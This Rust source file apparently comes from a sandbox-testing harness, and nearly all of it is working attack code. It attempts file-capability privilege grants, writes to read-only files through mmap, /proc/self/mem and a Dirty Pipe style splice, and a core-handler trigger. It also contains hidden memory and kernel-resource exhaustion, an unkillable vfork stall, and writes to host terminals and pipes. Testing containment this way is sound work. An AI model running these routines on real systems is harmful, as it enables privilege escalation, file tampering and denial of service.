//! Attacks beyond the list: ways around what watches, and ways out through the host's own services.

use std::ffi::CString;
use std::fs::{self, File, OpenOptions};
use std::io::{self, Seek, SeekFrom, Write};
use std::os::fd::{AsRawFd, FromRawFd};
use std::os::unix::fs::OpenOptionsExt;
use std::time::Duration;

use crate::{Options, Tried, in_child};

const MEBIBYTE: usize = 1 << 20;

/// How long a successful attack keeps what it got.
const HOLD: Duration = Duration::from_millis(400);

/// Makes a program of the output directory one that carries capabilities.
pub(crate) fn mark(options: &Options) -> Tried {
    for place in options.list("places") {
        let name = format!("{place}/program");
        if fs::copy("/bin/true", &name).is_err() {
            continue;
        }
        let name = CString::new(name)?;
        // `vfs_cap_data` of revisions 2 and 3 with CAP_SYS_ADMIN.
        for revision in [0x0200_0001_u32, 0x0300_0001] {
            let mut value = [0_u8; 24];
            value[..4].copy_from_slice(&revision.to_le_bytes());
            value[4..8].copy_from_slice(&(1_u32 << 21).to_le_bytes());
            let length = if revision >> 24 == 2 { 20 } else { 24 };
            // SAFETY: valid C strings and a buffer valid for its length.
            let done = unsafe {
                libc::setxattr(
                    name.as_ptr(),
                    c"security.capability".as_ptr(),
                    value.as_ptr().cast(),
                    length,
                    0,
                )
            };
            if done == 0 {
                options.reach("file capability");
            }
        }
    }
    Ok(())
}

/// Writes to files that it may only read: through mappings, `/proc/self/mem`, and spliced pipes.
pub(crate) fn mapping(options: &Options) -> Tried {
    for target in options.list("paths") {
        for write in [true, false] {
            let Ok(file) = OpenOptions::new().read(true).write(write).open(target) else {
                continue;
            };
            let protection = if write {
                libc::PROT_READ | libc::PROT_WRITE
            } else {
                libc::PROT_READ
            };
            // SAFETY: a fresh shared mapping of at least one byte; written only where that is allowed.
            unsafe {
                let address = libc::mmap(
                    std::ptr::null_mut(),
                    8,
                    protection,
                    libc::MAP_SHARED,
                    file.as_raw_fd(),
                    0,
                );
                if address == libc::MAP_FAILED {
                    continue;
                }
                if write {
                    address.cast::<u8>().write_volatile(b'X');
                }
                libc::mprotect(address, 8, libc::PROT_READ | libc::PROT_WRITE);
                if let Ok(mut memory) = OpenOptions::new()
                    .read(true)
                    .write(true)
                    .open("/proc/self/mem")
                {
                    let _ = memory
                        .seek(SeekFrom::Start(address as u64))
                        .and_then(|_| memory.write(b"Y"));
                }
                libc::munmap(address, 8);
            }
            splice(&file);
        }
    }
    Ok(())
}

/// Fills a pipe, empties it, splices a page of the file in, and writes behind it (as CVE-2022-0847 did).
fn splice(file: &File) {
    let mut ends = [0; 2];
    let full = vec![0_u8; 65_536];
    // SAFETY: buffers are valid for their lengths; both ends are closed by the last two calls.
    unsafe {
        if libc::pipe2(ends.as_mut_ptr(), libc::O_NONBLOCK) != 0 {
            return;
        }
        libc::write(ends[1], full.as_ptr().cast(), full.len());
        let mut taken = vec![0_u8; 65_536];
        libc::read(ends[0], taken.as_mut_ptr().cast(), taken.len());
        let mut at: libc::loff_t = 0;
        libc::splice(
            file.as_raw_fd(),
            &raw mut at,
            ends[1],
            std::ptr::null_mut(),
            1,
            0,
        );
        libc::write(ends[1], c"Z".as_ptr().cast(), 1);
        libc::close(ends[0]);
        libc::close(ends[1]);
    }
}

/// Crashes so that the host's handler of crashes would run: a limit of 1 alone keeps the kernel from
/// starting one (core(5)).
pub(crate) fn crash(options: &Options) -> Tried {
    in_child(|| {
        let mut now = libc::rlimit {
            rlim_cur: 9,
            rlim_max: 9,
        };
        // SAFETY: the structures live through the calls.
        unsafe {
            libc::getrlimit(libc::RLIMIT_CORE, &raw mut now);
            for (soft, hard) in [(0, now.rlim_max), (now.rlim_max, now.rlim_max), (0, 0)] {
                let wanted = libc::rlimit {
                    rlim_cur: soft,
                    rlim_max: hard,
                };
                libc::setrlimit(libc::RLIMIT_CORE, &raw const wanted);
                libc::syscall(
                    libc::SYS_prlimit64,
                    0,
                    libc::RLIMIT_CORE,
                    &raw const wanted,
                    0,
                );
                libc::getrlimit(libc::RLIMIT_CORE, &raw mut now);
                if now.rlim_cur != 1 {
                    options.reach("core handler");
                }
            }
        }
    });
    Ok(())
}

/// Ends its first thread; another one then fills `bytes`, anonymous or in a memory file.
pub(crate) fn headless(options: &Options) -> Tried {
    let bytes = options.number("bytes")? as usize;
    let in_file = options.list("in") == ["memfd"];
    std::thread::spawn(move || {
        let chunk = vec![1_u8; MEBIBYTE];
        let mut held = Vec::new();
        // SAFETY: a valid C string; the descriptor is owned at once.
        let mut file = unsafe { File::from_raw_fd(libc::memfd_create(c"headless".as_ptr(), 0)) };
        std::thread::sleep(HOLD / 8);
        for _ in 0..bytes / MEBIBYTE {
            if in_file {
                let _ = file.write_all(&chunk);
            } else {
                held.push(chunk.clone());
            }
        }
        std::thread::sleep(HOLD);
        std::hint::black_box(&held);
        // SAFETY: ends the whole process, whose first thread is gone.
        unsafe { libc::_exit(0) }
    });
    println!("{} end", options.nonce);
    io::stdout().flush()?;
    // SAFETY: ends this thread alone; nothing of its stack is used by others.
    unsafe { libc::syscall(libc::SYS_exit, 0) };
    Ok(())
}

/// Holds `bytes` in memory files that no process has open: they wait in a socket.
pub(crate) fn in_flight(options: &Options) -> Tried {
    let (near, _far) = std::os::unix::net::UnixStream::pair()?;
    let chunk = vec![1_u8; MEBIBYTE];
    for _ in 0..options.number("bytes")? as usize / (16 * MEBIBYTE) {
        // SAFETY: a valid C string; the descriptor is owned at once.
        let mut file = unsafe { File::from_raw_fd(libc::memfd_create(c"flight".as_ptr(), 0)) };
        for _ in 0..16 {
            let _ = file.write_all(&chunk);
        }
        send(near.as_raw_fd(), file.as_raw_fd());
    }
    std::thread::sleep(HOLD);
    Ok(())
}

/// Sends a descriptor through a socket.
fn send(socket: i32, descriptor: i32) {
    let mut byte = *b"x";
    let mut part = libc::iovec {
        iov_base: byte.as_mut_ptr().cast(),
        iov_len: 1,
    };
    let mut control = [0_u64; 4];
    // SAFETY: the header, its one part and the control buffer live through the call, and the buffer has
    // room for one descriptor.
    unsafe {
        let mut message: libc::msghdr = std::mem::zeroed();
        message.msg_iov = &raw mut part;
        message.msg_iovlen = 1;
        message.msg_control = control.as_mut_ptr().cast();
        message.msg_controllen = libc::CMSG_SPACE(4) as usize;
        let header = libc::CMSG_FIRSTHDR(&raw const message);
        (*header).cmsg_level = libc::SOL_SOCKET;
        (*header).cmsg_type = libc::SCM_RIGHTS;
        (*header).cmsg_len = libc::CMSG_LEN(4) as usize;
        libc::CMSG_DATA(header)
            .cast::<i32>()
            .write_unaligned(descriptor);
        libc::sendmsg(socket, &raw const message, libc::MSG_DONTWAIT);
    }
}

/// Fills the buffers of `pairs` socket pairs in each of `processes` processes: memory of the kernel.
pub(crate) fn buffers(options: &Options) -> Tried {
    let pairs = options.number("pairs")?;
    let fill = || {
        let chunk = vec![1_u8; 2_048];
        let mut held = Vec::new();
        for _ in 0..pairs {
            let Ok((near, far)) = std::os::unix::net::UnixStream::pair() else {
                break;
            };
            let _ = near.set_nonblocking(true);
            while (&near).write(&chunk).is_ok() {}
            held.push((near, far));
        }
        std::thread::sleep(2 * HOLD);
    };
    for _ in 1..options.number("processes")? {
        // SAFETY: one thread; the child ends with its parent at the latest.
        if unsafe { libc::fork() } == 0 {
            // SAFETY: plain integers.
            unsafe { libc::prctl(libc::PR_SET_PDEATHSIG, libc::SIGKILL) };
            fill();
            // SAFETY: ends the child.
            unsafe { libc::_exit(0) }
        }
    }
    fill();
    Ok(())
}

/// Makes sets of semaphores and message queues: memory of the kernel that no process owns.
pub(crate) fn semaphores(options: &Options) -> Tried {
    let megabytes = options.number("megabytes")?;
    let (mut sets, mut queues) = (Vec::new(), Vec::new());
    let text = vec![1_u8; 8_192];
    // SAFETY: plain integers, and a message valid for its length (its first eight bytes are its kind).
    unsafe {
        // Some two megabytes each.
        for _ in 0..megabytes / 2 {
            sets.push(libc::semget(libc::IPC_PRIVATE, 32_000, 0o600));
        }
        if sets.iter().all(|set| *set < 0) {
            sets.extend((0..32_000).map(|_| libc::semget(libc::IPC_PRIVATE, 16, 0o600)));
        }
        for _ in 0..megabytes * 64 {
            let queue = libc::msgget(libc::IPC_PRIVATE, 0o600);
            while queue >= 0
                && libc::msgsnd(queue, text.as_ptr().cast(), 8_000, libc::IPC_NOWAIT) == 0
            {
            }
            queues.push(queue);
        }
        std::thread::sleep(HOLD);
        for set in sets {
            libc::semctl(set, 0, libc::IPC_RMID);
        }
        for queue in queues {
            libc::msgctl(queue, libc::IPC_RMID, std::ptr::null_mut());
        }
    }
    Ok(())
}

/// Waits where no signal but one reaches: its child holds it in `vfork` and has stopped itself.
pub(crate) fn stall(options: &Options) -> Tried {
    println!("{} stalled", options.nonce);
    io::stdout().flush()?;
    // CLONE_VM | CLONE_VFORK without a stack of its own, as vfork(2).
    // SAFETY: the child only stops itself and ends; the parent's stack is not returned through.
    unsafe {
        let child = libc::syscall(
            libc::SYS_clone,
            libc::CLONE_VFORK | libc::SIGCHLD,
            0,
            0,
            0,
            0,
        );
        if child == 0 {
            for signal in 1..32 {
                libc::signal(signal, libc::SIG_IGN);
            }
            libc::raise(libc::SIGSTOP);
            libc::_exit(0)
        }
    }
    Ok(())
}

/// Opens devices below a mounted copy of `/dev` at `place`, and speaks to the terminal there.
pub(crate) fn devices_at(options: &Options) -> Tried {
    let place = options.get("place")?;
    let terminal = options.get("terminal")?.replace("/dev/", "");
    let open = |name: &str| {
        let mut wanted = OpenOptions::new();
        wanted
            .write(true)
            .custom_flags(libc::O_NOCTTY | libc::O_NONBLOCK);
        wanted.open(format!("{place}/{name}"))
    };
    if let Ok(mut terminal) = open(&terminal) {
        terminal.write_all(b"knock\n")?;
    }
    for name in ["null", "zero", "full", "random", "ptmx"] {
        if open(name).is_ok() {
            options.reach("device");
        }
    }
    Ok(())
}

/// Writes to pipes of the host below mounted directories.
pub(crate) fn pipes(options: &Options) -> Tried {
    for path in options.list("paths") {
        let mut wanted = OpenOptions::new();
        wanted.write(true).custom_flags(libc::O_NONBLOCK);
        let _ = wanted
            .open(path)
            .and_then(|mut pipe| pipe.write_all(b"knock"));
    }
    Ok(())
}

/// Holds `bytes` in memory files that only a thread with descriptors of its own has open.
pub(crate) fn own_table(options: &Options) -> Tried {
    let bytes = options.number("bytes")? as usize;
    let thread = std::thread::spawn(move || {
        // SAFETY: plain integers; CLOSE_RANGE_UNSHARE closes nothing in this empty range.
        let apart = unsafe { libc::syscall(libc::SYS_close_range, 900_000, 900_001, 2) };
        if apart != 0 {
            return;
        }
        // SAFETY: a valid C string; the descriptor is owned at once.
        let mut file = unsafe { File::from_raw_fd(libc::memfd_create(c"apart".as_ptr(), 0)) };
        let chunk = vec![1_u8; MEBIBYTE];
        for _ in 0..bytes / MEBIBYTE {
            let _ = file.write_all(&chunk);
        }
        std::thread::sleep(HOLD);
    });
    let _ = thread.join();
    Ok(())
}

/// Makes itself a worse candidate than the lab for the kernel's choice when memory runs out.
pub(crate) fn spare_me(options: &Options) -> Tried {
    let _ = fs::write("/proc/self/oom_score_adj", "0");
    let now = fs::read_to_string("/proc/self/oom_score_adj")?;
    if now.trim().parse::<i32>().unwrap_or(0) < 1_000 {
        options.reach("spared");
    }
    Ok(())
}
